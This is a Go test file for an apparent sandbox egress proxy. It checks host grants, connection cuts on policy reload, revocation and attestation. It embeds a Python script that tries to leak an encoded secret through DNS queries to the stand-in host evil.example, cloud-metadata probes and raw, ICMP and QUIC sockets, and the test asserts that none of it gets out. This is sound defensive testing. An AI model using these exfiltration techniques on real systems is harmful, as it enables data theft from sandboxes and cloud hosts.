package proxytest_test

import (
	"bufio"
	"errors"
	"fmt"
	"io"
	"net/http"
	"os/exec"
	"strings"
	"testing"

	"github.com/ringd/ringd/executors"
	"github.com/ringd/ringd/profiles"
	"github.com/ringd/ringd/rings/kernel/proxy"
)

// leaks tries to get a word out in every way that a program has, and says what
// came back.
const leaks = `
import base64, os, socket, struct
def query(name, kind):
    q = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0)
    for l in name.split("."):
        q += bytes([len(l)]) + l.encode()
    return q + b"\0" + struct.pack(">HH", kind, 1)
word = base64.b32encode(b"a secret word").decode().strip("=").lower()
name = word + ".evil.example"
def tcp(to, data=b"leak", family=socket.AF_INET, proto=0):
    s = socket.socket(family, socket.SOCK_STREAM, proto); s.settimeout(5)
    s.connect(to); s.sendall(data)
    return s.recv(100)
def udp(to, data=b"leak", family=socket.AF_INET, wait=1.0):
    s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(wait)
    s.sendto(data, to)
    return s.recv(512)
tls = bytes.fromhex("160301002f0100002b0303") + b"\0" * 32 + bytes.fromhex("0000021301010000")
tries = {
  "tcp 443": lambda: tcp(("93.184.216.34", 443)),
  "tcp 443 hello": lambda: tcp(("93.184.216.34", 443), tls),
  "tcp 80": lambda: tcp(("93.184.216.34", 80), b"GET / HTTP/1.1\r\nHost: api.example\r\n\r\n"),
  "tcp other port": lambda: tcp(("93.184.216.34", 22)),
  "tcp metadata": lambda: tcp(("169.254.169.254", 80)),
  "tcp host": lambda: tcp(("127.0.0.1", 22)),
  "tcp six": lambda: tcp(("2606:2800:220:1::1", 443), family=socket.AF_INET6),
  "tcp mapped": lambda: tcp(("::ffff:93.184.216.34", 80), family=socket.AF_INET6),
  "tcp fake": lambda: tcp(("198.18.0.77", 443), tls),
  "tcp names": lambda: tcp(("8.8.8.8", 53), struct.pack(">H", len(query(name, 1))) + query(name, 1)),
  "mptcp": lambda: tcp(("93.184.216.34", 443), proto=262),
  "udp names": lambda: udp(("8.8.8.8", 53), query(name, 1)),
  "udp names txt": lambda: udp(("1.1.1.1", 53), query(name, 16)),
  "udp names null": lambda: udp(("127.0.0.1", 53), query(name, 10)),
  "udp names listed txt": lambda: udp(("8.8.8.8", 53), query(word + ".wild.example", 16)),
  "udp names no query": lambda: udp(("8.8.8.8", 53), word.encode()),
  "udp names six": lambda: udp(("2001:4860:4860::8888", 53), query(name, 28), socket.AF_INET6),
  "udp quic": lambda: udp(("93.184.216.34", 443), b"\xc0\0\0\0\1" + b"x" * 1200),
  "udp ntp": lambda: udp(("93.184.216.34", 123)),
  "ping": lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP).sendto(b"\x08\0\0\0\0\0\0\0leak", ("8.8.8.8", 0)),
  "raw": lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 255).sendto(b"leak", ("8.8.8.8", 0)),
  "packet": lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3).sendto(b"leak", ("lo", 0)),
  "sctp": lambda: tcp(("93.184.216.34", 443), proto=132),
  "lookup": lambda: socket.getaddrinfo(name, 443),
  "lookup metadata": lambda: socket.getaddrinfo("metadata.google.internal", 80),
}
for what, f in tries.items():
    try:
        print(what, "=", f())
    except OSError as e:
        print(what, "!", e)
`

// TestNothingElse: of all that a guest sends nothing arrives anywhere, and no name
// is looked up; outside of a guest the same program is heard.
func TestNothingElse(t *testing.T) {
	need(t, "/usr/bin/python3")
	w := newWorld(t, host("api.example", 80, 443), host("*.wild.example"))
	w.Name("api.example", "93.184.216.34")
	w.Sink("HTTP/1.1 200 OK\r\n\r\n", 22, 80, 443)
	w.Datagrams(123, 443)
	w.file("leaks.py", leaks)
	out := w.run(`python3 -S "$D/../leaks.py"`, true)
	t.Log(clip(out))
	if n := strings.Count(out, "\n"); n != 25 {
		t.Errorf("%d tries, want 25:\n%s", n, clip(out))
	}
	if all := w.Arrivals(); len(all) != 0 {
		t.Errorf("arrived: %+v", all)
	}
	if all := w.Lookups(); len(all) != 0 {
		t.Errorf("looked up: %q", all)
	}
	for _, answer := range []string{ // NXDOMAIN, by whatever way; of a listed name there is no text
		`tcp names = b'\x00`, `udp names = b'\x00\x07\x81\x83`, `udp names txt = b'\x00\x07\x81\x83`, `udp names null = b'\x00\x07\x81\x83`,
		`udp names six = b'\x00\x07\x81\x83`, `udp names listed txt = b'\x00\x07\x81\x80\x00\x01\x00\x00\x00\x00\x00\x00`,
	} {
		has(t, out, answer)
	}
	for _, refused := range []string{"tcp 443 !", "tcp 443 hello !", "tcp 80 !", "tcp other port !", "tcp six !",
		"tcp fake !", "mptcp !", "udp quic !", "ping !", "raw !", "packet !", "lookup !"} {
		has(t, out, refused)
	}
	seen := map[string]bool{}
	for _, ev := range w.log() {
		if ev.Decision.Verdict == profiles.Allow || ev.Dial.IsValid() || ev.Agent != agent ||
			ev.Executor != profiles.ExecutorShell {
			t.Errorf("on record: %+v", ev)
		}
		seen[ev.Listener+" "+ev.Dest.Host()] = true
	}
	for _, want := range []string{"transparent 93.184.216.34", "transparent 169.254.169.254",
		"transparent 2606:2800:220:1::1", "transparent 198.18.0.77", "dns metadata.google.internal"} {
		if !seen[want] {
			t.Errorf("no refusal of %q is on record: %v", want, seen)
		}
	}
	c := exec.CommandContext(t.Context(), "/usr/bin/python3", "-S", w.dir+"/leaks.py")
	if b, err := c.CombinedOutput(); err != nil || len(w.Arrivals()) < 8 {
		t.Errorf("outside of a guest %d arrive: %v: %s", len(w.Arrivals()), err, b)
	}
}

// held is a server of answers that go on until the test ends them.
type held struct {
	begun chan string
	over  chan string
	end   chan struct{}
}

func (h *held) ServeHTTP(rw http.ResponseWriter, r *http.Request) {
	fmt.Fprintln(rw, "begin", r.Host)
	rw.(http.Flusher).Flush()
	h.begun <- r.Host
	select {
	case <-h.end:
		fmt.Fprintln(rw, "whole", r.Host)
	case <-r.Context().Done():
		h.over <- r.Host
	}
}

// TestReload: while a guest downloads, a host that goes is cut, one that stays goes
// on, and a port that comes is there, without a restart.
func TestReload(t *testing.T) {
	need(t, "/usr/bin/curl")
	w := newWorld(t, host("api.example"), host("git.example"))
	w.Name("api.example", "93.184.216.34")
	w.Name("git.example", "93.184.216.34")
	w.Name("new.example", "93.184.216.40")
	h := &held{begun: make(chan string), over: make(chan string, 9), end: make(chan struct{})}
	w.serve("93.184.216.34:443", h)
	w.serve("93.184.216.40:88", says("new"))
	for name, proxies := range map[string]bool{"with proxies": true, "without": false} {
		t.Run(name, func(t *testing.T) {
			w.allow(host("api.example"), host("git.example"))
			h.end = make(chan struct{})
			g := w.launch(w.spec(`
				curl -sSN --max-time 50 https://api.example/ & one=$!
				curl -sSN --max-time 50 https://git.example/ & two=$!
				wait $two; echo "second $?"
				until curl -fs --max-time 20 --noproxy '*' http://new.example:88/; do sleep 0.05; done; echo
				wait $one; echo "first $?"`, proxies))
			out, said := bufio.NewReader(g.(executors.Streamer).Stdout()), ""
			<-h.begun
			<-h.begun
			for strings.Count(said, "begin ") < 2 { // a reset takes along what was not read
				line, err := out.ReadString('\n')
				if said += line; err != nil {
					t.Fatalf("it says %q, %v", said, err)
				}
			}
			before := w.number.Load()
			w.allow(host("api.example"), host("new.example", 88))
			if gone := <-h.over; gone != "git.example" {
				t.Errorf("%s is cut", gone)
			}
			if state, why := w.ring.State(); state != "ready" {
				t.Errorf("the ring is %s: %s", state, why)
			}
			close(h.end)
			rest, _ := io.ReadAll(out)
			said += string(rest)
			has(t, said, "begin api.example", "begin git.example", "whole api.example", "first 0",
				"new GET new.example:88 0")
			hasNot(t, said, "whole git.example", "second 0")
			cut := 0
			for _, ev := range w.log() {
				if ev.End == proxy.EndCut && ev.Before == before && ev.Generation == before+1 &&
					ev.Dest.Name == "git.example" {
					cut++
				}
			}
			if cut != 1 {
				t.Errorf("%d cuts of the generation %d are on record: %+v", cut, before, w.log())
			}
		})
	}
}

// TestNetworkGoes: a policy that takes the network away ends the guests that have
// one; one that takes the agent away does too.
func TestNetworkGoes(t *testing.T) {
	for name, put := range map[string]func(*world){
		"off": func(w *world) {
			a := w.profile()
			a.Egress = profiles.Egress{Mode: profiles.EgressOff}
			w.put(a)
		},
		"no agent": func(w *world) { w.put(profiles.Agent{Name: "b"}) },
	} {
		t.Run(name, func(t *testing.T) {
			w := newWorld(t, host("api.example"))
			g := w.launch(w.spec("exec sleep 100", true))
			put(w)
			if _, err := g.(executors.Streamer).Wait(t.Context()); !errors.Is(err, executors.ErrRevoked) {
				t.Errorf("it ends with %v", err)
			}
		})
	}
}

// TestNarrowed: what a run leaves out of its grants is not reached by it, also
// after a policy that lists more, and is by another run.
func TestNarrowed(t *testing.T) {
	need(t, "/usr/bin/curl")
	w := newWorld(t, host("api.example"), host("git.example"))
	for _, name := range []string{"api.example", "git.example", "other.example"} {
		w.Name(name, "93.184.216.34")
	}
	w.serve("93.184.216.34:443", says("secure"))
	const script = `for h in api git other; do curl -fsS --max-time 20 https://$h.example/; echo; done`
	narrow := w.spec(script, false)
	narrow.Grants = []profiles.Grants{{Hosts: []string{"api.example", "other.example"}},
		{Hosts: []string{"git.example", "api.example"}}}
	run := func(s executors.Spec) string {
		b, _ := io.ReadAll(w.launch(s).(executors.Streamer).Stdout())
		return string(b)
	}
	for range 2 {
		out := run(narrow)
		has(t, out, "secure GET api.example")
		hasNot(t, out, "GET git.example", "GET other.example")
		has(t, run(w.spec(script, false)), "secure GET api.example", "secure GET git.example")
		w.allow(host("api.example"), host("git.example"), host("other.example"))
	}
	has(t, run(w.spec(script, false)), "secure GET other.example")
}

// TestAttested: a guest says whether its network leads to ringd.
func TestAttested(t *testing.T) {
	w := newWorld(t, host("api.example"))
	g := w.launch(w.spec(`echo "$HTTPS_PROXY $no_proxy"`, true))
	if state := g.Attestation().Layers["egress"]; state != "enforced" {
		t.Errorf("egress is %q", state)
	}
	b, _ := io.ReadAll(g.(executors.Streamer).Stdout())
	has(t, string(b), "http://127.0.0.1:3128 localhost,127.0.0.1,::1")
	s := w.spec("true", true)
	s.Kernel.Network = profiles.NetworkOff
	if state := w.launch(s).Attestation().Layers["egress"]; state != "unavailable" {
		t.Errorf("egress of a guest without a network is %q", state)
	}
}
